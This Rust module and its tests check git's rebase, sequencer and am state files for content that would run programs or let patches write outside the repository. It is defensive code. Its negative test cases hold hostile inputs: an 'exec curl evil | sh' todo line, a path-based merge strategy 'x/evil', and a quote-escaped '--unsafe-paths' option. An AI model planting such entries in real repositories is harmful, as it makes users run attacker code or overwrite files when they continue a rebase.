//! Files in which git keeps what it is in the midst of, as far as they can make `git rebase --continue`, `git cherry-pick
//! --continue` or `git am --continue` run something, or write outside the repository.
//!
//! Ordinary work makes and removes them, so they are not held: what they say is judged when the run is over.

use crate::git_config;

/// By the directory in the git directory: the files that matter. What git writes of these is in its `sequencer.c` and
/// `builtin/am.c`.
const FILES: &[(&[u8], &[&[u8]])] = &[
    (b"rebase-merge", &[b"git-rebase-todo", b"strategy"]),
    (b"sequencer", &[b"todo", b"opts"]),
    (b"rebase-apply", &[b"apply-opt"]),
];

/// Strategies that git brings along. Any other is a program `git-merge-NAME`, which a name with a slash in it takes from the
/// working directory.
const STRATEGIES: &[&str] = &["ort", "recursive", "resolve", "octopus", "ours", "subtree"];

/// Options of `git am` that it hands on to `git apply`, but for those that let a patch write anywhere.
const APPLY: &[&str] = &[
    "--whitespace=",
    "--ignore-space-change",
    "--ignore-whitespace",
    "--directory=",
    "--exclude=",
    "--include=",
    "--reject",
    "-C",
    "-p",
];

/// The files that matter in a directory of this name.
pub(crate) fn files(directory: &[u8]) -> Option<&'static [&'static [u8]]> {
    FILES.iter().find(|(name, _)| name.eq_ignore_ascii_case(directory)).map(|(_, files)| *files)
}

/// Whether a file of this name is one of them, in whatever directory.
pub(crate) fn is_name(name: &[u8]) -> bool {
    FILES.iter().any(|(_, files)| files.iter().any(|known| known.eq_ignore_ascii_case(name)))
}

/// Whether a file of this name with this content makes git run nothing and write nowhere else.
pub(crate) fn is_harmless(name: &[u8], text: &str) -> bool {
    match name {
        b"git-rebase-todo" | b"todo" => {
            let command = |line: &str| line.split([' ', '\t', '\r']).find(|word| !word.is_empty()).map(str::to_owned);
            text.lines().filter_map(command).all(|command| command != "exec" && command != "x")
        }
        b"strategy" => STRATEGIES.contains(&text.trim()),
        b"opts" => git_config::settings(text).is_some_and(|settings| {
            settings.iter().all(|(name, value)| name != "options.strategy" || STRATEGIES.contains(&value.as_str()))
        }),
        b"apply-opt" => text.split_ascii_whitespace().all(|option| {
            let option = option.strip_prefix('\'').and_then(|rest| rest.strip_suffix('\'')).unwrap_or(option);
            !option.contains(['\'', '\\']) && APPLY.iter().any(|known| option.starts_with(known))
        }),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_git_writes_in_ordinary_work_is_harmless() {
        for (name, text) in [
            ("git-rebase-todo", "pick 1234 x\nfixup 12 exec\n\n# x, exec <command> = run\nlabel onto\nreset onto\n"),
            ("todo", "pick 1234 one\npick 5678 two\n"),
            ("strategy", "ort\n"),
            ("opts", "[options]\n\tmainline = 1\n\tstrategy = recursive\n\tstrategy-option = patience\n"),
            ("apply-opt", "\n"),
            ("apply-opt", " '--whitespace=fix' '-p1'\n"),
        ] {
            assert!(is_harmless(name.as_bytes(), text), "{name}: {text}");
        }
    }

    #[test]
    fn what_runs_something_or_writes_elsewhere_is_not() {
        for (name, text) in [
            ("git-rebase-todo", "pick 1234 x\nexec curl evil | sh\n"),
            ("git-rebase-todo", "  \tx\ttouch it\n"),
            ("todo", "x"),
            ("strategy", "x/evil\n"),
            ("opts", "[options]\n\tstrategy = x/evil\n"),
            ("opts", "[options]\n\tstrategy = \"x/evil\"\n"),
            ("opts", "[options] strategy = x/evil ;]\n"),
            ("apply-opt", " '--unsafe-paths'\n"),
            ("apply-opt", " '--un'\n"),
            ("apply-opt", " '-p1'\\'''--unsafe-paths\n"),
            ("Git-Rebase-Todo", "pick 1234 x\n"),
        ] {
            assert!(!is_harmless(name.as_bytes(), text), "{name}: {text}");
        }
    }
}
